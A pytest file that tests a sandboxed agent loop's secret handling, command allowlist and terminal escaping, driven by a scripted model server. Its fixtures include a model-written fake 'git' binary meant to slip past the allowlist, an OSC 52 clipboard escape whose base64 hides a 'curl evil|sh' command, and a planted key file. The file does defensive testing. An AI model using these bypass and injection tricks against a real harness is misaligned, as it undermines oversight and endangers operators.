"""loop/agent.py: the jailed half of the loop. It reads the key from its stdin
pipe to EOF and puts /dev/null there, drops every credential variable (by name
and by value) from what its commands get, never lets the key's bytes leave in
a tool result, the transcript or its output, and drives the model through tool
calls until it finishes or a budget ends, writing a result the engine reads.

In-process (run) and as the engine starts it (``python -I -m
saphan.loop.agent SPEC``), against the scripted chat-completions server on
127.0.0.1 (tests/tools/model_servers.py); the jail around it is tested by
tests/tools/test_loop_*.py.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from saphan.loop.agent import (
    MALFORMED_LIMIT,
    Redactor,
    Transcript,
    main,
    read_secret,
    run,
    scrubbed,
    terminal_safe,
)
from tools.model_servers import ChatCompletionsServer

SECRET = "sk-agent-test-" + "s" * 24


def _spec(tmp_path: Path, base_url: str, **over: Any) -> dict[str, Any]:
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    wd = tmp_path / "wd"
    wd.mkdir(exist_ok=True)
    spec = {"lane": "L", "base_url": f"{base_url}/v1", "model": "m1", "timeout": 10,
            "retries": 0, "prompt": "do the task", "workdir": str(wd), "allowed_commands": None,
            "max_turns": 10, "max_seconds": 60, "command_timeout": 10,
            "scrub_env": ["LANE_KEY"], "transcript": str(out / "transcript.jsonl"),
            "result": str(out / "loop-result.json")}
    spec.update(over)
    return spec


def _transcript(spec: dict[str, Any]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in Path(spec["transcript"]).read_text().splitlines()]


# -- the key: read, kept, never shown -------------------------------------------------------

def test_read_secret_drains_the_pipe_and_leaves_dev_null() -> None:
    r, w = os.pipe()
    os.write(w, SECRET.encode())
    os.close(w)
    try:
        assert read_secret(r) == SECRET
        assert os.read(r, 10) == b""  # fd r is now /dev/null, not the pipe
        st, null = os.fstat(r), os.stat(os.devnull)
        assert stat.S_ISCHR(st.st_mode) and st.st_rdev == null.st_rdev
    finally:
        os.close(r)


def test_scrubbed_drops_by_name_and_by_value() -> None:
    env = {"PATH": "/bin", "LANE_KEY": "x", "OTHER_KEY": "y", "ALIAS": f"Bearer {SECRET}",
           "FINE": "sk-agent-test-"}
    assert scrubbed(env, ["LANE_KEY", "OTHER_KEY"], [SECRET]) == {
        "PATH": "/bin", "FINE": "sk-agent-test-"}
    assert scrubbed(env, [], [""]) == env  # an empty key matches nothing


def test_the_redactor_counts_what_it_withholds() -> None:
    redact = Redactor(SECRET)
    assert redact(f"a {SECRET} b {SECRET}") == "a [credential withheld] b [credential withheld]"
    assert redact.count == 2
    assert redact(f"again {SECRET}", count=False) == "again [credential withheld]"
    assert redact.count == 2
    assert redact("nothing here") == "nothing here" and redact.count == 2
    assert Redactor("")("text") == "text"


def test_the_transcript_is_redacted_and_shown_one_line_a_step(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    redact = Redactor(SECRET)
    t = Transcript(str(tmp_path / "t.jsonl"), redact)
    t.write({"kind": "task", "prompt": "p"})
    t.write({"kind": "assistant", "turn": 1, "message": {"content": f"key is {SECRET}"}})
    t.write({"kind": "assistant", "turn": 1, "message": {"content": None}})
    t.write({"kind": "tool", "turn": 1, "call": {"function": {
        "name": "run_command", "arguments": '{"argv": ["ls"]}'}}, "result": "exit 0\na\nb"})
    t.write({"kind": "tool", "turn": 2, "call": "not an object", "result": "error: x"})
    t.f.close()
    assert SECRET not in (tmp_path / "t.jsonl").read_text()
    assert len((tmp_path / "t.jsonl").read_text().splitlines()) == 5
    assert redact.count == 1  # counted once, on its way into the transcript
    assert capsys.readouterr().out.splitlines() == [
        "[turn 1] model: key is [credential withheld]",
        '[turn 1] run_command {"argv": ["ls"]} -> exit 0',
        "[turn 2] None None -> error: x",
    ]


# -- the loop (in-process) --------------------------------------------------------------------------

def test_a_task_to_its_finish(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                              capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("LANE_KEY", SECRET)
    monkeypatch.setenv("RENAMED", f"token={SECRET}")
    monkeypatch.setenv("KEPT", "visible")
    script = [
        ("calls", [("write_file", {"path": "out.txt", "content": "hello\n"}),
                   ("run_command", {"argv": ["sh", "-c", "cat out.txt; env"]})]),
        ("calls", [("finish", {"summary": "wrote out.txt"})]),
    ]
    with ChatCompletionsServer(script) as srv:
        spec = _spec(tmp_path, srv.base_url)
        result = run(spec, SECRET)
        second = srv.requests[1]
        auth = srv.headers[0]["Authorization"]
    assert result["end"] == "finished" and result["summary"] == "wrote out.txt"
    assert result["detail"] == "the model called finish"
    assert (result["turns"], result["tool_calls"], result["http_attempts"]) == (2, 3, 2)
    assert result["tokens"] == {"prompt": 200, "completion": 40, "total": 240}
    assert result["redactions"] == 0
    assert auth == f"Bearer {SECRET}"
    assert (tmp_path / "wd" / "out.txt").read_text() == "hello\n"
    messages = second["messages"]
    assert [m["role"] for m in messages] == ["system", "user", "assistant", "tool", "tool"]
    assert str(tmp_path / "wd") in messages[0]["content"] and messages[1]["content"] == (
        "do the task")
    calls = messages[2]["tool_calls"]
    assert [m["tool_call_id"] for m in messages[3:]] == [c["id"] for c in calls]
    command_result = messages[4]["content"].splitlines()
    assert command_result[:2] == ["exit 0", "hello"]
    assert "KEPT=visible" in command_result
    assert not any(x.startswith(("LANE_KEY=", "RENAMED=")) for x in command_result)
    kinds = [e["kind"] for e in _transcript(spec)]
    assert kinds == ["task", "assistant", "tool", "tool", "assistant", "tool", "end"]
    assert _transcript(spec)[-1]["end"] == "finished"
    assert SECRET not in Path(spec["transcript"]).read_text()
    assert SECRET not in capsys.readouterr().out


def test_the_key_never_leaves_in_a_tool_result(tmp_path: Path) -> None:
    """Were a copy of the key readable (the jail prevents it), its bytes still
    would not reach the model: withheld, and counted as a caught leak."""
    script = [("calls", [("read_file", {"path": "leaked.txt"}),
                         ("run_command", {"argv": ["cat", "leaked.txt"]})]), ("text", "done")]
    with ChatCompletionsServer(script) as srv:
        spec = _spec(tmp_path, srv.base_url)
        (tmp_path / "wd" / "leaked.txt").write_text(f"key={SECRET}\n")
        result = run(spec, SECRET)
        results = srv.tool_results()
    assert results == ["key=[credential withheld]\n", "exit 0\nkey=[credential withheld]\n"]
    assert result["redactions"] == 2  # each leak caught here is counted
    assert SECRET not in Path(spec["transcript"]).read_text()


def test_an_answer_without_tool_calls_finishes(tmp_path: Path) -> None:
    with ChatCompletionsServer([("text", "nothing to do")]) as srv:
        result = run(_spec(tmp_path, srv.base_url), SECRET)
    assert (result["end"], result["summary"], result["turns"]) == (
        "finished", "nothing to do", 1)
    assert result["detail"] == "the model answered without a tool call"


@pytest.mark.parametrize(("over", "end", "turns", "requests"), [
    ({"max_turns": 2}, "turn-budget-exhausted", 2, 2),
    ({"max_seconds": 0}, "time-budget-exhausted", 0, 0),
])
def test_budgets(tmp_path: Path, over: dict[str, Any], end: str, turns: int,
                 requests: int) -> None:
    with ChatCompletionsServer([("calls", [("list_dir", {})])] * 5) as srv:
        result = run(_spec(tmp_path, srv.base_url, **over), SECRET)
        sent = len(srv.requests)
    assert (result["end"], result["turns"], sent) == (end, turns, requests)


def test_a_model_error_is_the_end(tmp_path: Path) -> None:
    with ChatCompletionsServer([("status", 401)]) as srv:
        spec = _spec(tmp_path, srv.base_url)
        result = run(spec, SECRET)
    assert result["end"] == "model-auth-rejected" and result["turns"] == 0
    assert "HTTP 401" in result["detail"]
    assert _transcript(spec)[-1]["end"] == "model-auth-rejected"


def test_consecutive_malformed_turns_end_the_run(tmp_path: Path) -> None:
    script = [("calls", [("no_such_tool", {})])] * (MALFORMED_LIMIT + 3)
    with ChatCompletionsServer(script) as srv:
        result = run(_spec(tmp_path, srv.base_url), SECRET)
        sent = len(srv.requests)
    assert result["end"] == "model-malformed"
    assert sent == result["turns"] == MALFORMED_LIMIT + 1
    assert "there is no tool 'no_such_tool'" in result["detail"]


def test_a_class_restricts_the_commands(tmp_path: Path) -> None:
    script = [("calls", [("run_command", {"argv": ["touch", "x"]})]), ("text", "ok")]
    with ChatCompletionsServer(script) as srv:
        spec = _spec(tmp_path, srv.base_url, allowed_commands=["git"])
        run(spec, SECRET)
        results = srv.tool_results()
    assert results[0].startswith("refused by the permission class: 'touch'")
    assert not (tmp_path / "wd" / "x").exists()


def test_a_program_the_model_wrote_does_not_run_under_an_allowed_name(tmp_path: Path) -> None:
    """Issue 16: with `git` allowed, `./git` (written by the model) ran. It is
    refused, as a tool result; the run goes on to its finish."""
    script = [
        ("calls", [("write_file", {"path": "git", "content": "#!/bin/sh\ntouch pwned\n"}),
                   ("run_command", {"argv": ["chmod", "+x", "git"]}),
                   ("run_command", {"argv": ["./git", "status"]}),
                   ("run_command", {"argv": "./git status"})]),
        ("calls", [("finish", {"summary": "tried"})]),
    ]
    with ChatCompletionsServer(script) as srv:
        spec = _spec(tmp_path, srv.base_url, allowed_commands=["git", "chmod"])
        result = run(spec, SECRET)
        results = srv.tool_results()
    assert (tmp_path / "wd" / "git").stat().st_mode & 0o100  # it was made executable
    assert results[1] == "exit 0\n"
    for got in results[2:]:
        assert got.startswith("refused by the permission class: './git' is a path"), got
    assert not (tmp_path / "wd" / "pwned").exists()
    assert result["end"] == "finished" and result["summary"] == "tried"


def test_malformed_calls_are_answered_and_the_run_goes_on(tmp_path: Path) -> None:
    """Issue 16: each of these ended the loop with a traceback (no result
    file). Each is answered `error: …` and the run finishes."""
    bad = [("run_command", "[" * 100_000),  # nested too deep for json
           ("run_command", {"argv": "ls 'unclosed"}),
           ("run_command", {"argv": ["true"], "timeout": 10 ** 400}),
           ("run_command", {"argv": ["\ud800"]}),
           ("read_file", {"path": "\ud800"}),
           ("write_file", {"path": "x", "content": "\udfff"}),
           ("run_command", {"argv": ["true"], "timeout": True}),
           ("run_command", "{not json")]
    script = [("calls", bad), ("calls", [("finish", {"summary": "survived"})])]
    with ChatCompletionsServer(script) as srv:
        result = run(_spec(tmp_path, srv.base_url), SECRET)
        results = srv.tool_results()
    assert result["end"] == "finished" and result["summary"] == "survived", result
    assert result["tool_calls"] == len(bad) + 1
    assert len(results) == len(bad)
    assert results[2] == "exit 0\n"  # a huge timeout is capped, not an OverflowError
    for got in results[:2] + results[3:]:
        assert got.startswith("error: "), got
    assert "not JSON" in results[0] and "cannot be split" in results[1]


def test_the_turn_budget_bounds_malformed_calls_that_alternate(tmp_path: Path) -> None:
    bad = ("calls", [("run_command", {"argv": "'"})])
    good = ("calls", [("list_dir", {})])
    with ChatCompletionsServer([bad, good] * 10) as srv:
        result = run(_spec(tmp_path, srv.base_url, max_turns=5), SECRET)
    assert (result["end"], result["turns"]) == ("turn-budget-exhausted", 5)


def test_terminal_safe_escapes_controls_but_newline_and_tab() -> None:
    assert terminal_safe("a\x1b]52;c;aGk=\x07b\x1b[31mred\x1b[0m\tx\ny\r\x9b\x7f\x00\ud800é") == (
        "a\\x1b]52;c;aGk=\\x07b\\x1b[31mred\\x1b[0m\tx\ny\\r\\x9b\\x7f\\x00\\ud800é")


def test_what_the_model_says_reaches_the_terminal_escaped(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 16: an OSC 52 clipboard write and colour codes in the model's
    text (and in a command's output) reached the operator's terminal raw. The
    lines on stdout are escaped; the transcript keeps the raw text."""
    osc = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
    text = f"hello {osc}\x1b[31mred\x1b[0m\x9b2J\rover\nsecond line"
    script = [
        ("raw", json.dumps({"id": "x", "object": "chat.completion", "choices": [
            {"index": 0, "finish_reason": "tool_calls", "message": {
                "role": "assistant", "content": text, "tool_calls": [
                    {"id": "c1", "type": "function", "function": {
                        "name": "run_command",
                        "arguments": json.dumps({"argv": ["printf", "\\033]52;c;eA==\\007"]})
                    }}]}}]})),
        ("calls", [("read_file", {"path": "esc.txt"}), ("finish", {"summary": "s"})]),
    ]
    with ChatCompletionsServer(script) as srv:
        spec = _spec(tmp_path, srv.base_url)
        (tmp_path / "wd" / "esc.txt").write_text("\x1b]0;title\x07\x1b[2Jcleared\n")
        result = run(spec, SECRET)
        results = srv.tool_results()
    assert result["end"] == "finished"
    assert results[0] == "exit 0\n\x1b]52;c;eA==\x07"  # the model reads the output as is
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out and "\r" not in out
    assert ("[turn 1] model: hello \\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[31mred\\x1b[0m"
            "\\x9b2J\\rover\nsecond line") in out
    assert '-> exit 0' in out
    assert '-> \\x1b]0;title\\x07\\x1b[2Jcleared' in out  # a file's first line, shown
    raw = _transcript(spec)
    assert raw[1]["message"]["content"] == text  # the transcript keeps it raw
    assert raw[2]["result"] == "exit 0\n\x1b]52;c;eA==\x07"


# -- as the engine starts it ----------------------------------------------------------------------

def test_main_needs_exactly_the_spec(capsys: pytest.CaptureFixture[str]) -> None:
    assert main([]) == 2
    assert "usage: python -I -m saphan.loop.agent SPEC" in capsys.readouterr().err


def test_the_module_run_as_the_engine_runs_it(tmp_path: Path) -> None:
    script = [("calls", [("run_command", {"argv": ["env"]})]),
              ("calls", [("finish", {"summary": "all done"})])]
    with ChatCompletionsServer(script) as srv:
        spec = _spec(tmp_path, srv.base_url)
        (tmp_path / "spec.json").write_text(json.dumps(spec))
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LANE_KEY": SECRET,
               "COPY_OF_IT": SECRET, "KEPT": "yes"}
        done = subprocess.run([sys.executable, "-I", "-m", "saphan.loop.agent",
                               str(tmp_path / "spec.json")], input=SECRET.encode(),
                              capture_output=True, timeout=60, env=env, check=False)
        seen_env = srv.tool_results()[0].splitlines()
    assert done.returncode == 0, done.stderr
    result = json.loads(Path(spec["result"]).read_text())
    assert result["end"] == "finished" and result["summary"] == "all done"
    assert not Path(spec["result"] + ".tmp").exists()
    assert done.stderr.decode().strip().endswith(
        "saphan-loop: finished after 2 turn(s), 2 tool call(s): the model called finish")
    assert "KEPT=yes" in seen_env
    assert not any(x.startswith(("LANE_KEY=", "COPY_OF_IT=")) for x in seen_env)
    assert SECRET.encode() not in done.stdout + done.stderr


def test_a_run_that_does_not_finish_exits_1(tmp_path: Path) -> None:
    with ChatCompletionsServer([("status", 403)]) as srv:
        spec = _spec(tmp_path, srv.base_url)
        (tmp_path / "spec.json").write_text(json.dumps(spec))
        done = subprocess.run([sys.executable, "-I", "-m", "saphan.loop.agent",
                               str(tmp_path / "spec.json")], input=SECRET.encode(),
                              capture_output=True, timeout=60, check=False)
    assert done.returncode == 1
    assert json.loads(Path(spec["result"]).read_text())["end"] == "model-auth-rejected"
